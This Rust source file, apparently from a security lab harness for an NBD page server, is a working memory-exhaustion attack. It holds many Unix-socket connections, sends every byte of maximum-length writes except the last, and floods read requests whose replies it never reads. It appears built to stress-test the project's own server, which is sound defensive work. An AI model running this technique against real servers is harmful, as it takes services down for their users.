//! `stuck_nbd SOCKET EXPORT`: makes a page server hold as much memory as possible.
//!
//! It keeps as many connections as it gets. Of two, one announces the longest write and sends all
//! but the last byte. The other requests the longest reads and reads no reply.

use std::io::{self, Write};
use std::os::unix::net::UnixStream;
use std::time::Duration;

use pageserver::nbd::dialogue::{Dialogue, Wanted};
use pageserver::nbd::request::{Command, Request};
use pageserver::nbd::wire::MAX_PAYLOAD;

use super::has_gone;
use crate::lab::LabError;
use crate::nbd_load::talk;

/// Connections that are wanted: this number once took 810 MB.
const WANTED: usize = 24;
/// Read requests on one connection.
const READS: u64 = 64;
/// Timeout for the server to accept more data, or to negotiate.
const PATIENCE: Duration = Duration::from_secs(2);
/// Pause between two tries.
const REST: Duration = Duration::from_millis(200);

pub(super) fn attack(args: &[String]) -> Result<(), LabError> {
    let [socket, export] = args else {
        return Err(io::Error::other("stuck_nbd takes a socket and an export's name").into());
    };
    let mut held: Vec<UnixStream> = Vec::new();
    let mut taken = 0;
    loop {
        let mut refused = None;
        while held.len() < WANTED && refused.is_none() {
            match one(socket, export, held.len().is_multiple_of(2)) {
                Ok((stream, bytes)) => {
                    held.push(stream);
                    taken += bytes;
                }
                Err(error) => refused = Some(error),
            }
            let before = held.len();
            held.retain(|stream| !has_gone(stream));
            if held.len() < before {
                break;
            }
        }
        let why = refused.map_or_else(|| "another one was ended".to_owned(), |e| e.to_string());
        let (open, mib) = (held.len(), taken >> 20);
        println!("saw: {open} connections are held, {mib} MiB were taken in all; {why}");
        std::thread::sleep(REST);
        held.retain(|stream| !has_gone(stream));
    }
}

/// A stuck connection, and the number of bytes that the server read from it.
fn one(socket: &str, export: &str, writes: bool) -> io::Result<(UnixStream, usize)> {
    let mut stream = UnixStream::connect(socket)?;
    stream.set_read_timeout(Some(PATIENCE))?;
    stream.set_write_timeout(Some(PATIENCE))?;
    let wanted = Wanted { name: export.to_owned(), tls: false, status: false };
    talk(&mut stream, &mut Dialogue::new(wanted), Vec::new())?;
    let request = |command, cookie| {
        let (command, length) = (Some(command), MAX_PAYLOAD);
        let mut bytes = Vec::new();
        Request { flags: 0, command, cookie, offset: 0, length }.encode(&mut bytes);
        bytes
    };
    let says = if writes {
        let mut says = request(Command::Write, 0);
        says.resize(says.len() + MAX_PAYLOAD as usize - 1, 1);
        says
    } else {
        (0..READS).flat_map(|cookie| request(Command::Read, cookie)).collect()
    };
    let mut taken = 0;
    while taken < says.len() {
        match stream.write(&says[taken..]) {
            Ok(n) => taken += n,
            Err(_) => break,
        }
    }
    Ok((stream, taken))
}
